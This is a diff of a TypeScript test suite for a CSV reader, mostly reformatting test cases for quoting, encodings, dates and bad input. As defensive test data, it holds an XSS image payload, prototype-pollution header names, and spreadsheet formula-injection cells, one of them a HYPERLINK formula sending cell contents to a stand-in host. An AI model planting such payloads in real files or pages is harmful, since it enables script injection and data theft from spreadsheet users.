@@ -30,17 +30,86 @@ function notices(file: Awaited<ReturnType<typeof read>>): string[] {
 // The same cases, written anew, so that they are tested where the shared ones are absent.
 describe('every kind of quoting', () => {
   it.each<[string, string, string[], string[][]]>([
-    ['commas in quotes', 'first,last,city\nJohn,"Doe, Jr",Anytown', ['first', 'last', 'city'], [['John', 'Doe, Jr', 'Anytown']]],
-    ['empty cells, quoted', 'a,b,c\n1,"",""\n2,3,4', ['a', 'b', 'c'], [['1', '', ''], ['2', '3', '4']]],
-    ['empty cells and CRLF', 'a,b,c\r\n1,"",""\r\n2,3,4', ['a', 'b', 'c'], [['1', '', ''], ['2', '3', '4']]],
-    ['escaped quotes', 'a,b\n1,"say ""hi"" now"\n3,4', ['a', 'b'], [['1', 'say "hi" now'], ['3', '4']]],
+    [
+      'commas in quotes',
+      'first,last,city\nJohn,"Doe, Jr",Anytown',
+      ['first', 'last', 'city'],
+      [['John', 'Doe, Jr', 'Anytown']],
+    ],
+    [
+      'empty cells, quoted',
+      'a,b,c\n1,"",""\n2,3,4',
+      ['a', 'b', 'c'],
+      [
+        ['1', '', ''],
+        ['2', '3', '4'],
+      ],
+    ],
+    [
+      'empty cells and CRLF',
+      'a,b,c\r\n1,"",""\r\n2,3,4',
+      ['a', 'b', 'c'],
+      [
+        ['1', '', ''],
+        ['2', '3', '4'],
+      ],
+    ],
+    [
+      'escaped quotes',
+      'a,b\n1,"say ""hi"" now"\n3,4',
+      ['a', 'b'],
+      [
+        ['1', 'say "hi" now'],
+        ['3', '4'],
+      ],
+    ],
     ['JSON in a cell', 'key,val\n1,"{""k"": [1, 2]}"\n', ['key', 'val'], [['1', '{"k": [1, 2]}']]],
-    ['line ends in cells', 'a,b\n1,2\n"one\nand two",4\n', ['a', 'b'], [['1', '2'], ['one\nand two', '4']]],
-    ['CRLF in cells', 'a,b\r\n1,2\r\n"one\r\nand two",4\r\n', ['a', 'b'], [['1', '2'], ['one\r\nand two', '4']]],
+    [
+      'line ends in cells',
+      'a,b\n1,2\n"one\nand two",4\n',
+      ['a', 'b'],
+      [
+        ['1', '2'],
+        ['one\nand two', '4'],
+      ],
+    ],
+    [
+      'CRLF in cells',
+      'a,b\r\n1,2\r\n"one\r\nand two",4\r\n',
+      ['a', 'b'],
+      [
+        ['1', '2'],
+        ['one\r\nand two', '4'],
+      ],
+    ],
     ['LF in cells of a CRLF file', 'a,b\r\n"one\nand two",4\r\n', ['a', 'b'], [['one\nand two', '4']]],
-    ['quotes and line ends', 'a,b\n1,"ha\n""ha""\nha"\n3,4', ['a', 'b'], [['1', 'ha\n"ha"\nha'], ['3', '4']]],
-    ['other scripts', 'a,b\n4,ʤ\n5,茶😀', ['a', 'b'], [['4', 'ʤ'], ['5', '茶😀']]],
-    ['carriage returns alone', 'a,b\r1,x\r2,"y\rz"\r', ['a', 'b'], [['1', 'x'], ['2', 'y\rz']]],
+    [
+      'quotes and line ends',
+      'a,b\n1,"ha\n""ha""\nha"\n3,4',
+      ['a', 'b'],
+      [
+        ['1', 'ha\n"ha"\nha'],
+        ['3', '4'],
+      ],
+    ],
+    [
+      'other scripts',
+      'a,b\n4,ʤ\n5,茶😀',
+      ['a', 'b'],
+      [
+        ['4', 'ʤ'],
+        ['5', '茶😀'],
+      ],
+    ],
+    [
+      'carriage returns alone',
+      'a,b\r1,x\r2,"y\rz"\r',
+      ['a', 'b'],
+      [
+        ['1', 'x'],
+        ['2', 'y\rz'],
+      ],
+    ],
   ])('%s', async (_, content, header, rows) => {
     const file = await read(content, { types: asText(header.length) });
     expect(labels(file)).toEqual(header);
@@ -53,7 +122,8 @@ describe.skipIf(!existsSync(SPECTRUM))('csv-spectrum', () => {
   const cases = existsSync(SPECTRUM) ? readdirSync(`${SPECTRUM}csvs`).map((name) => name.replace('.csv', '')) : [];
 
   it.each(cases)('%s is exact', async (name) => {
-    const parsed = JSON.parse(readFileSync(`${SPECTRUM}json/${name}.json`, 'utf8')) as Record<string, string> | Record<string, string>[];
+    const parsed = JSON.parse(readFileSync(`${SPECTRUM}json/${name}.json`, 'utf8')) as
+      Record<string, string> | Record<string, string>[];
     const wanted = Array.isArray(parsed) ? parsed : [parsed];
     const file = await read(readFileSync(`${SPECTRUM}csvs/${name}.csv`), { types: asText(8) });
     const found = cells(file).map((row) => Object.fromEntries(row.map((cell, column) => [labels(file)[column], cell])));
@@ -96,12 +166,18 @@ describe('files of Chinese offices', () => {
 
   it('07 Big5 is named, not misread', async () => {
     expect(await refusal(fixture('07_big5.csv'))).toBe('data.big5');
-    expect((await read(fixture('07_big5.csv'), { encoding: 'gb18030' })).encoding).toMatchObject({ value: 'gb18030', chosen: true });
+    expect((await read(fixture('07_big5.csv'), { encoding: 'gb18030' })).encoding).toMatchObject({
+      value: 'gb18030',
+      chosen: true,
+    });
   });
 
   it('09 is told by its header alone', async () => {
     const file = await read(fixture('09_gbk_header_only_cn.csv'));
-    expect(file.encoding).toMatchObject({ value: 'gb18030', reason: { code: 'data.encoding-gb18030', parameters: { line: 1 } } });
+    expect(file.encoding).toMatchObject({
+      value: 'gb18030',
+      reason: { code: 'data.encoding-gb18030', parameters: { line: 1 } },
+    });
     expect(labels(file)).toEqual(['编号', '姓名', '金额']);
     expect(file.table.rows).toBe(200);
     expect(types(file)[2]).toBe('number');
@@ -111,7 +187,11 @@ describe('files of Chinese offices', () => {
   it('12 has full-width digits, thousands and signs', async () => {
     const file = await read(fixture('12_fullwidth_digits.csv'));
     expect(types(file)).toEqual(['date', 'number', 'number']);
-    expect(cells(file)).toEqual([['2023-01-05', '1234.5', '10'], ['2023-01-06', '567', '20'], ['2023-01-07', '1234', '30']]);
+    expect(cells(file)).toEqual([
+      ['2023-01-05', '1234.5', '10'],
+      ['2023-01-06', '567', '20'],
+      ['2023-01-07', '1234', '30'],
+    ]);
   });
 
   it('14 has dates in six forms; day numbers of Excel stay numbers', async () => {
@@ -130,28 +210,49 @@ describe('files of Chinese offices', () => {
     expect(named.columns[0]!.note?.code).toBe('data.note-serial-dates');
   });
 
-  it.each(['16_ambiguous_dmy.csv', '19_two_digit_year.csv'])('P3 %s stays text and says that it looks like dates', async (name) => {
-    const file = await read(fixture(name));
-    expect(types(file)[0]).toBe('text');
-    expect(file.columns[0]!.note?.code).toBe('data.note-other-dates');
-  });
+  it.each(['16_ambiguous_dmy.csv', '19_two_digit_year.csv'])(
+    'P3 %s stays text and says that it looks like dates',
+    async (name) => {
+      const file = await read(fixture(name));
+      expect(types(file)[0]).toBe('text');
+      expect(file.columns[0]!.note?.code).toBe('data.note-other-dates');
+    },
+  );
 
   it('20 is split at semicolons; decimal commas are not read as anything else', async () => {
     const file = await read(fixture('20_decimal_comma_semicolon.csv'));
     expect(file.delimiter.value).toBe(';');
-    expect(cells(file)).toEqual([['A', '1.234,50', '3'], ['B', '2,5', '4'], ['C', '3,75', '5']]);
+    expect(cells(file)).toEqual([
+      ['A', '1.234,50', '3'],
+      ['B', '2,5', '4'],
+      ['C', '3,75', '5'],
+    ]);
   });
 
   it('22 keeps identifiers to the last digit', async () => {
     const file = await read(fixture('22_id_columns.csv'));
     expect(types(file)).toEqual(['identifier', 'identifier', 'identifier', 'identifier', 'identifier']);
-    expect(cells(file)).toEqual([['110105199003071234', '13800138000', '9007199254740993', '010010', '0012'], ['11010519900307123X', '13900139000', '9007199254740995', '200000', '0105']]);
+    expect(cells(file)).toEqual([
+      ['110105199003071234', '13800138000', '9007199254740993', '010010', '0012'],
+      ['11010519900307123X', '13900139000', '9007199254740995', '200000', '0105'],
+    ]);
   });
 
   it('24 has accounting negatives, percent and errors of the sheet', async () => {
     const file = await read(fixture('24_accounting.csv'));
     expect(types(file)).toEqual(['text', 'number']);
-    expect([...(file.table.columns[1]!.column as NumberColumn).values]).toEqual([1234, -1200, NaN, -88.5, 1234.5, 0.125, NaN, NaN, NaN, NaN]);
+    expect([...(file.table.columns[1]!.column as NumberColumn).values]).toEqual([
+      1234,
+      -1200,
+      NaN,
+      -88.5,
+      1234.5,
+      0.125,
+      NaN,
+      NaN,
+      NaN,
+      NaN,
+    ]);
     expect(file.problems).toMatchObject([{ line: 9, column: 1, code: 'not-a-number', got: '#DIV/0!' }]);
     expect(file.columns[1]!.missing).toBe(5);
   });
@@ -165,20 +266,35 @@ describe('files of Chinese offices', () => {
 
   it('P8 29 has hostile names, which are only labels', async () => {
     const file = await read(fixture('29_evil_headers.csv'));
-    expect(labels(file)).toEqual(['__proto__', 'constructor', 'toString', 'hasOwnProperty', '<img src=x onerror=alert(1)>', '=1+1']);
+    expect(labels(file)).toEqual([
+      '__proto__',
+      'constructor',
+      'toString',
+      'hasOwnProperty',
+      '<img src=x onerror=alert(1)>',
+      '=1+1',
+    ]);
     expect(file.table.columns.map(({ id }) => id)).toEqual(['c0', 'c1', 'c2', 'c3', 'c4', 'c5']);
     expect(cells(file)).toEqual([['1', '2', '3', '4', '5', '6']]);
   });
 
   it('30 has line ends in cells; rows know their lines', async () => {
     const file = await read(fixture('30_newline_in_cell.csv'));
-    expect(cells(file)).toEqual([['张三', '上海市\r\n浦东新区', '说"好"'], ['李四', '北京市', '无']]);
+    expect(cells(file)).toEqual([
+      ['张三', '上海市\r\n浦东新区', '说"好"'],
+      ['李四', '北京市', '无'],
+    ]);
     expect([...file.table.lines!]).toEqual([2, 4]);
   });
 
   it('P2 32 has rows too short and too long, which are kept and named', async () => {
     const file = await read(fixture('32_ragged.csv'));
-    expect(cells(file)).toEqual([['1', '2', ''], ['1', '2', '3'], ['1', '2', '3'], ['1', '2', '3']]);
+    expect(cells(file)).toEqual([
+      ['1', '2', ''],
+      ['1', '2', '3'],
+      ['1', '2', '3'],
+      ['1', '2', '3'],
+    ]);
     expect(file.problems).toMatchObject([
       { line: 2, code: 'short-row', expected: 3, found: 2, got: '' },
       { line: 4, code: 'long-row', expected: 3, found: 4, got: '4' },
@@ -189,7 +305,10 @@ describe('files of Chinese offices', () => {
   it('34 has a zero byte in a cell, which is no UTF-16, and stays', async () => {
     const file = await read(fixture('34_nul_bytes.csv'));
     expect(file.encoding.value).toBe('utf-8');
-    expect(cells(file)).toEqual([['1', 'x\0y'], ['2', 'z']]);
+    expect(cells(file)).toEqual([
+      ['1', 'x\0y'],
+      ['2', 'z'],
+    ]);
     expect(notices(file)).toContain('data.zero-bytes');
   });
 
@@ -215,20 +334,36 @@ describe('files of Chinese offices', () => {
 
   it('42 has cells that look like formulas, which are texts', async () => {
     const file = await read(fixture('42_formula_cells.csv'));
-    expect(cells(file).map((row) => row[1])).toEqual(['=HYPERLINK("http://x.example/?"&A1,"点")', '@SUM(A1:A2)', '+8613800138000', '-5', '＝1+1']);
+    expect(cells(file).map((row) => row[1])).toEqual([
+      '=HYPERLINK("http://x.example/?"&A1,"点")',
+      '@SUM(A1:A2)',
+      '+8613800138000',
+      '-5',
+      '＝1+1',
+    ]);
   });
 
   it('45 has time zones, which are not read yet: the column stays text and says so', async () => {
     const file = await read(fixture('45_timezones.csv'));
     expect(types(file)).toEqual(['text']);
     expect(file.columns[0]!.note?.code).toBe('data.note-other-dates');
-    expect(cells(file)).toEqual([['2023-01-05'], ['2023-01-05T00:00:00Z'], ['2023-01-05T00:00:00+08:00'], ['2023-01-05 08:00:00']]);
+    expect(cells(file)).toEqual([
+      ['2023-01-05'],
+      ['2023-01-05T00:00:00Z'],
+      ['2023-01-05T00:00:00+08:00'],
+      ['2023-01-05 08:00:00'],
+    ]);
   });
 });
 
 describe('one table', () => {
   const names = ['客户编号', '下单日期', '金额', '商品'];
-  const rows = Array.from({ length: 300 }, (_, row) => [`K${String(row % 40).padStart(4, '0')}`, `2024-0${1 + (row % 9)}-1${row % 10}`, (row * 1.25).toFixed(2), ['奶茶', '咖啡', '果汁'][row % 3]!]);
+  const rows = Array.from({ length: 300 }, (_, row) => [
+    `K${String(row % 40).padStart(4, '0')}`,
+    `2024-0${1 + (row % 9)}-1${row % 10}`,
+    (row * 1.25).toFixed(2),
+    ['奶茶', '咖啡', '果汁'][row % 3]!,
+  ]);
   const text = [names, ...rows].map((row) => row.join(',')).join('\n');
   const quoted = [names, ...rows].map((row) => row.map((cell) => `"${cell}"`).join(',')).join('\n');
 
@@ -258,20 +393,35 @@ describe('one table', () => {
 describe('P3 what a person chooses', () => {
   it('rules over every guess', async () => {
     const bytes = toGb18030('甲;乙\n1;2\n');
-    expect((await read(bytes, { encoding: 'gb18030' })).encoding).toMatchObject({ value: 'gb18030', chosen: true, reason: { code: 'data.chosen' } });
+    expect((await read(bytes, { encoding: 'gb18030' })).encoding).toMatchObject({
+      value: 'gb18030',
+      chosen: true,
+      reason: { code: 'data.chosen' },
+    });
     const comma = await read('a;b\n1;2\n', { delimiter: ',' });
-    expect(comma.delimiter).toEqual({ value: ',', reason: { code: 'data.chosen' }, chosen: true, alternatives: [';', '\t', '|'] });
+    expect(comma.delimiter).toEqual({
+      value: ',',
+      reason: { code: 'data.chosen' },
+      chosen: true,
+      alternatives: [';', '\t', '|'],
+    });
     expect(cells(comma)).toEqual([['1;2']]);
     const bare = await read('a,b\n1,2\n', { header: false });
     expect(labels(bare)).toEqual(['A', 'B']);
-    expect(cells(bare)).toEqual([['a', 'b'], ['1', '2']]);
+    expect(cells(bare)).toEqual([
+      ['a', 'b'],
+      ['1', '2'],
+    ]);
   });
 
   it('of the type stays, whatever does not fit', async () => {
     const file = await read('k,v\na,1\nb,x\nc,y\n', { types: { c1: 'number' } });
     expect(file.columns[1]!.type).toMatchObject({ value: 'number', chosen: true });
     expect([...(file.table.columns[1]!.column as NumberColumn).values]).toEqual([1, NaN, NaN]);
-    expect(file.problems.map(({ line, got }) => [line, got])).toEqual([[3, 'x'], [4, 'y']]);
+    expect(file.problems.map(({ line, got }) => [line, got])).toEqual([
+      [3, 'x'],
+      [4, 'y'],
+    ]);
     expect(types(await read('k,v\na,1\nb,2\n', { types: { c1: 'text' } }))).toEqual(['text', 'text']);
     expect(types(await read('k,v\na,20230105\n', { types: { c1: 'date' } }))).toEqual(['text', 'date']);
   });
@@ -294,7 +444,8 @@ describe('P3 a header', () => {
 });
 
 describe('types are decided over the whole column', () => {
-  const many = (cell: (row: number) => string, rows = 2000): string => `k,v\n${Array.from({ length: rows }, (_, row) => `a,${cell(row)}`).join('\n')}`;
+  const many = (cell: (row: number) => string, rows = 2000): string =>
+    `k,v\n${Array.from({ length: rows }, (_, row) => `a,${cell(row)}`).join('\n')}`;
 
   it('numbers with few others stay numbers, and the others are listed', async () => {
     const file = await read(many((row) => (row === 1500 ? 'twelve' : String(row))));
@@ -313,7 +464,10 @@ describe('types are decided over the whole column', () => {
 
   it('a whole number with a leading zero, anywhere, makes identifiers', async () => {
     const file = await read(many((row) => (row === 1900 ? '0042' : String(row))));
-    expect(file.columns[1]!.type).toMatchObject({ value: 'identifier', reason: { code: 'data.type-identifier-zeros' } });
+    expect(file.columns[1]!.type).toMatchObject({
+      value: 'identifier',
+      reason: { code: 'data.type-identifier-zeros' },
+    });
     expect(cells(file)[1900]![1]).toBe('0042');
   });
 
@@ -336,7 +490,9 @@ describe('types are decided over the whole column', () => {
   });
 
   it('numbers of one length of eight digits or more are identifiers', async () => {
-    expect((await read(many((row) => String(13800138000 + row)))).columns[1]!.type.reason.code).toBe('data.type-identifier-length');
+    expect((await read(many((row) => String(13800138000 + row)))).columns[1]!.type.reason.code).toBe(
+      'data.type-identifier-length',
+    );
     expect(types(await read(many((row) => String(95_000_000 + row * 10_000))))[1]).toBe('number');
   });
 
@@ -368,16 +524,29 @@ describe('encodings over the whole file', () => {
         const file = await read(bytes);
         expect(file.table.rows).toBe(count);
         expect(file.columns.map(({ distinct }) => distinct)).toEqual([1, 1, 1, 1, 1]);
-        expect(cells({ ...file, table: { ...file.table, rows: 1 } })).toEqual([['K001', '张三', '上海', '1234.5', '2023-01-05']]);
+        expect(cells({ ...file, table: { ...file.table, rows: 1 } })).toEqual([
+          ['K001', '张三', '上海', '1234.5', '2023-01-05'],
+        ]);
       }
     }
   });
 
   it('P2 damage in an otherwise readable file is shown and named by its line', async () => {
-    const bytes = new Uint8Array([...new TextEncoder().encode('k,v\n甲,1\n乙'), 0xff, 0xff, ...new TextEncoder().encode(',2\n丙,3\n')]);
+    const bytes = new Uint8Array([
+      ...new TextEncoder().encode('k,v\n甲,1\n乙'),
+      0xff,
+      0xff,
+      ...new TextEncoder().encode(',2\n丙,3\n'),
+    ]);
     const file = await read(bytes);
-    expect(file.encoding).toMatchObject({ value: 'utf-8', reason: { code: 'data.encoding-damaged', parameters: { line: 3 } } });
-    expect(file.notices).toContainEqual({ code: 'data.damaged-characters', parameters: { line: 3, encoding: 'UTF-8' } });
+    expect(file.encoding).toMatchObject({
+      value: 'utf-8',
+      reason: { code: 'data.encoding-damaged', parameters: { line: 3 } },
+    });
+    expect(file.notices).toContainEqual({
+      code: 'data.damaged-characters',
+      parameters: { line: 3, encoding: 'UTF-8' },
+    });
     expect(cells(file).map((row) => row[1])).toEqual(['1', '2', '3']);
     expect(cells(file)[1]![0]).toContain('\ufffd');
   });
@@ -400,12 +569,23 @@ describe('bad input', () => {
   ])('%s is refused', async (_, content, code) => expect(await refusal(content)).toBe(code));
 
   it('P11 a file over the limit is refused before a byte of it is read', async () => {
-    const huge = { size: MAXIMUM_FILE_BYTES + 1, slice: () => { throw new Error('read'); } } as unknown as Blob;
-    expect(await readFile(huge, 'huge.csv', {})).toMatchObject({ ok: false, error: { code: 'data.too-large', parameters: { name: 'huge.csv', bytes: MAXIMUM_FILE_BYTES + 1 } } });
+    const huge = {
+      size: MAXIMUM_FILE_BYTES + 1,
+      slice: () => {
+        throw new Error('read');
+      },
+    } as unknown as Blob;
+    expect(await readFile(huge, 'huge.csv', {})).toMatchObject({
+      ok: false,
+      error: { code: 'data.too-large', parameters: { name: 'huge.csv', bytes: MAXIMUM_FILE_BYTES + 1 } },
+    });
   });
 
   it('a file that vanishes is named', async () => {
-    const gone = { size: 10, slice: () => ({ arrayBuffer: () => Promise.reject(new Error('NotReadableError')) }) } as unknown as Blob;
+    const gone = {
+      size: 10,
+      slice: () => ({ arrayBuffer: () => Promise.reject(new Error('NotReadableError')) }),
+    } as unknown as Blob;
     expect(await readFile(gone, 'gone.csv', {})).toMatchObject({ ok: false, error: { code: 'data.unreadable' } });
   });
 
@@ -427,7 +607,12 @@ describe('bad input', () => {
 
   it('P2 any bytes whatever are read or refused with a message, and no row is lost', async () => {
     const wild = fc.uint8Array({ minLength: 1, maxLength: 400 });
-    const tame = fc.array(fc.constantFrom(...Array.from(new TextEncoder().encode('a1,"\r\n;\t|茶-2023.()%é '))), { minLength: 1, maxLength: 200 }).map((list) => Uint8Array.from(list));
+    const tame = fc
+      .array(fc.constantFrom(...Array.from(new TextEncoder().encode('a1,"\r\n;\t|茶-2023.()%é '))), {
+        minLength: 1,
+        maxLength: 200,
+      })
+      .map((list) => Uint8Array.from(list));
     await fc.assert(
       fc.asyncProperty(fc.oneof(wild, tame, tame), async (content) => {
         const outcome = await readFile(new Blob([content]), 'any.csv', {});
@@ -451,7 +636,11 @@ describe('while a file is read', () => {
     const told: { bytes: number; totalBytes: number; rows: number }[] = [];
     await readFile(new Blob([long]), 'long.csv', {}, { progress: (progress) => told.push(progress) });
     expect(told.length).toBeGreaterThan(4);
-    expect(told.every((one, index) => index === 0 || (one.bytes >= told[index - 1]!.bytes && one.rows >= told[index - 1]!.rows))).toBe(true);
+    expect(
+      told.every(
+        (one, index) => index === 0 || (one.bytes >= told[index - 1]!.bytes && one.rows >= told[index - 1]!.rows),
+      ),
+    ).toBe(true);
     expect(told.at(-1)).toEqual({ bytes: long.length, totalBytes: long.length, rows: SLICE_BYTES });
   });
 
@@ -469,10 +658,16 @@ describe('a day', () => {
     const days: number[][] = [];
     for (const zone of ['Asia/Shanghai', 'America/Los_Angeles', 'Pacific/Kiritimati']) {
       process.env['TZ'] = zone;
-      days.push([...((await read('d,v\n2023-01-05,1\n2023/1/6 00:00,2\n')).table.columns[0]!.column as DateColumn).days]);
+      days.push([
+        ...((await read('d,v\n2023-01-05,1\n2023/1/6 00:00,2\n')).table.columns[0]!.column as DateColumn).days,
+      ]);
     }
     if (before === undefined) delete process.env['TZ'];
     else process.env['TZ'] = before;
-    expect(days).toEqual([[19362, 19363], [19362, 19363], [19362, 19363]]);
+    expect(days).toEqual([
+      [19362, 19363],
+      [19362, 19363],
+      [19362, 19363],
+    ]);
   });
 });
